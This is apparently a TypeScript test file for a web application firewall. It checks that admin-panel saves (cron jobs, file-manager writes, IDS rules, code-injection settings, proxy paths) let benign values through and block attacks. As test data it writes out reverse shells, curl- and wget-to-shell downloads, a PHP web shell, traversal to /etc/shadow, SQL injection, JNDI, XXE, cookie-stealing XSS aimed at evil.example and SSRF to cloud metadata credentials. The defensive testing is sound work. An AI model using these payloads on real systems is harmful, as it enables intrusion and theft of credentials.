/**
 * Issue 14's admin saves (datasets/families config-editor, cluster-paths, security-rules, tag-snippets,
 * scheduler-ui) through the full pipeline (bundled rules + the shipped model, `warden eval`): the values those
 * families carry pass, and attacks placed in the same fields — a traversal or a system file as the saved path,
 * a reverse shell or a download-and-run as the cron command or in a cron file, markup that runs on load in
 * a tag snippet's field, a traversal or metadata address through a service proxy, SQL or a JNDI lookup in a
 * rule text's field, an SSRF in a settings page's Referer — are still blocked.
 */
import { testCarriers, type Carrier } from './carrier-verdicts.js';

const form = (host: string, path: string, pairs: (v: string) => [string, string][]): Carrier => (v) => ({
  method: 'POST',
  path,
  query: '',
  headers: { Host: host, 'Content-Type': 'application/x-www-form-urlencoded', Origin: `https://${host}` },
  body: new URLSearchParams(pairs(v)).toString(),
});
const json = (host: string, path: string, body: (v: string) => unknown, method = 'POST'): Carrier => (v) => ({ method, path, query: '', headers: { Host: host, 'Content-Type': 'application/json' }, body: JSON.stringify(body(v)) });

const CARRIERS: Record<string, Carrier> = {
  'file manager path': form('10.0.4.12:2083', '/cpsess1234567890/execute/Fileman/save_file_content', (v) => [['dir', v.slice(0, v.lastIndexOf('/')) || '/'], ['file', v.slice(v.lastIndexOf('/') + 1)], ['content', 'server {\n    listen 80;\n}\n'], ['from_charset', 'UTF-8']]),
  'file manager content': form('10.0.4.12:2083', '/cpsess1234567890/execute/Fileman/save_file_content', (v) => [['dir', '/etc/cron.d'], ['file', 'shop-backup'], ['content', v], ['from_charset', 'UTF-8']]),
  'cron command': form('10.0.4.12:2083', '/cpsess1234567890/execute/Cron/add_line', (v) => [['command', v], ['minute', '*/5'], ['hour', '*'], ['day', '*'], ['month', '*'], ['weekday', '*']]),
  'forge job': json('forge.laravel.com', '/api/v1/servers/123456/jobs', (v) => ({ command: v, frequency: 'nightly', user: 'forge' })),
  'suricata rules': json('192.168.1.1', '/api/ids/settings/set', (v) => ({ ids: { userDefinedRules: { rule: v } } })),
  'wazuh rule field': (v) => ({ method: 'PUT', path: '/rules/files/local_rules.xml', query: 'overwrite=true', headers: { Host: '10.0.0.20:55000', 'Content-Type': 'application/octet-stream' }, body: `<group name="web,">\n  <rule id="100200" level="10">\n    <if_sid>31100</if_sid>\n    <url>${v}</url>\n    <description>Probe</description>\n  </rule>\n</group>\n` }),
  'ghost code injection': json('blog.example.com', '/ghost/api/admin/settings/', (v) => ({ settings: [{ key: 'codeinjection_head', value: v }] }), 'PUT'),
  'header plugin': form('shop.example.com', '/wp-admin/options-general.php?page=insert-headers-and-footers', (v) => [['ihaf_insert_header', v], ['_wpnonce', 'a1b2c3d4e5'], ['submit', 'Save']]),
  'service proxy path': (v) => ({ method: 'GET', path: v, query: '', headers: { Host: '127.0.0.1:8001', Accept: 'text/html' } }),
  'settings referer': (v) => ({ method: 'GET', path: '/api/v1/status', query: '', headers: { Host: '10.0.4.12:8080', Accept: 'application/json', Referer: v } }),
};

const BENIGN: [string, string][] = [
  ['file manager path', '/home/shop/public_html/.htaccess'],
  ['cron command', 'cd /home/shop/public_html && /usr/local/bin/php artisan schedule:run >> /dev/null 2>&1'],
  ['forge job', 'php8.3 /home/forge/shop.example.com/artisan queue:work --stop-when-empty'],
  ['service proxy path', '/api/v1/namespaces/monitoring/services/grafana/proxy/api/health'],
  ['settings referer', 'https://admin.example.com/settings/network'],
];

const ATTACKS: [string, string][] = [
  ['file manager path', '../../../../etc/passwd'],
  ['file manager path', '/home/shop/public_html/../../../etc/shadow'],
  ['file manager content', '* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n'],
  ['file manager content', '<?php system($_GET["cmd"]); ?>'],
  ['cron command', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
  ['cron command', 'curl -s http://203.0.113.9/x.sh | sh'],
  ['cron command', 'wget -qO- http://203.0.113.9/m | bash'],
  ['cron command', 'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQgMD4mMQ== | base64 -d | bash'],
  ['forge job', 'nc -e /bin/sh 203.0.113.9 4444'],
  ['forge job', 'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\''],
  ['suricata rules', "' UNION SELECT username, password FROM users--"],
  ['suricata rules', '${jndi:ldap://203.0.113.9:1389/a}'],
  ['wazuh rule field', '</url></rule></group><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
  ['ghost code injection', '"><svg onload=alert(document.domain)>'],
  ['ghost code injection', '<img src=x onerror=eval(atob("ZmV0Y2goJy8vZXZpbC5leGFtcGxlLz9jPScrZG9jdW1lbnQuY29va2llKQ=="))>'],
  ['header plugin', '<script>document.location="https://evil.example/?c="+document.cookie</script>'],
  ['header plugin', '<iframe src="javascript:alert(1)"></iframe>'],
  ['service proxy path', '/api/v1/namespaces/monitoring/services/http:grafana:3000/proxy/../../../../etc/passwd'],
  ['service proxy path', '/api/v1/namespaces/monitoring/services/http:grafana:3000/proxy/public/plugins/alertlist/../../../../../../../../etc/passwd'],
  ['settings referer', "https://admin.example.com/settings?tab=network' UNION SELECT password FROM users--"],
  ['settings referer', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
];

testCarriers('admin saves (issue 14 families)', 'passes the values these families carry', CARRIERS, BENIGN, ATTACKS);
